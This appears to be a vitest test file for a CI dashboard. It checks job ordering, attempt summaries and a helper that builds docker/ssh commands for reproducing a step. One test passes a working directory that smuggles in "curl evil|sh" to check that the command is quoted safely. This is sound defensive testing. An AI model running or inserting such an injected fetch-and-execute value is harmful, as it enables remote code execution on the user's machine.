import { describe, expect, it } from 'vitest'
import type { JobView, ReproRecipe } from '../../../shared/model'
import { reproCommand } from './ReproRecipe'
import { attemptLines, inWorkflowOrder } from './RunView'

const job = (key: string): JobView => ({
  id: 0,
  key,
  name: key,
  state: 'succeeded',
  needs: [],
  runsOn: [],
  nodeName: null,
  image: null,
  exitCode: null,
  reason: null,
  outputs: {},
  startedAt: null,
  finishedAt: null,
  steps: [],
  attempts: [],
  cancelling: null,
  repro: null,
  logCappedAt: null,
})

describe('inWorkflowOrder', () => {
  it('keeps matrix instances beside their siblings, jobs in workflow order', () => {
    const order = inWorkflowOrder(
      ['gen', 'build (a)', 'lint', 'dynamic (x)', 'build (b)', 'dynamic (y)'].map(job),
    ).map((j) => j.key)
    expect(order).toEqual(['gen', 'build (a)', 'build (b)', 'lint', 'dynamic (x)', 'dynamic (y)'])
  })
})

describe('attemptLines', () => {
  it('says where each attempt ran and why it ended, first to last', () => {
    const j: JobView = {
      ...job('build'),
      attempts: [
        {
          number: 1,
          nodeName: 'n2',
          state: 'preempted',
          reason: 'preempted by hotfix job fix (run 7)',
          startedAt: 1,
          finishedAt: 2,
        },
        { number: 2, nodeName: 'n1', state: 'succeeded', reason: null, startedAt: 3, finishedAt: 4 },
      ],
    }
    expect(attemptLines(j)).toEqual([
      'attempt 1 on n2, preempted: preempted by hotfix job fix (run 7)',
      'attempt 2 on n1, succeeded',
    ])
  })
})

describe('reproCommand', () => {
  const recipe: ReproRecipe = {
    node: 'n1',
    address: 'ci@10.0.0.5:2222',
    image: 'node:20',
    imageId: 'sha256:abc',
    step: { index: 1, name: 'Run make test' },
    shell: 'bash',
    workingDirectory: 'sub',
    env: ['CI', 'GITHUB_SHA'],
    script: 'make test',
  }
  it('opens a shell in the exact image the step ran in, in its working directory', () => {
    expect(reproCommand(recipe)).toBe(
      'docker -H ssh://ci@10.0.0.5:2222 run --rm -it -v "$PWD:/workspace" -w /workspace/sub sha256:abc bash',
    )
    expect(reproCommand({ ...recipe, imageId: null, workingDirectory: null, shell: 'python' })).toBe(
      'docker -H ssh://ci@10.0.0.5:2222 run --rm -it -v "$PWD:/workspace" -w /workspace node:20 sh',
    )
  })
  it('on a shell node, says to go there', () => {
    expect(reproCommand({ ...recipe, image: null, imageId: null })).toMatch(/^ssh -p 2222 ci@10\.0\.0\.5 /)
    expect(reproCommand({ ...recipe, address: null })).toMatch(/^docker run /)
  })
  it('quotes what comes from the workflow, so pasting it runs nothing else', () => {
    expect(reproCommand({ ...recipe, imageId: null, workingDirectory: "x; curl evil|sh 'q'" })).toBe(
      `docker -H ssh://ci@10.0.0.5:2222 run --rm -it -v "$PWD:/workspace" -w '/workspace/x; curl evil|sh '\\''q'\\''' node:20 bash`,
    )
  })
})
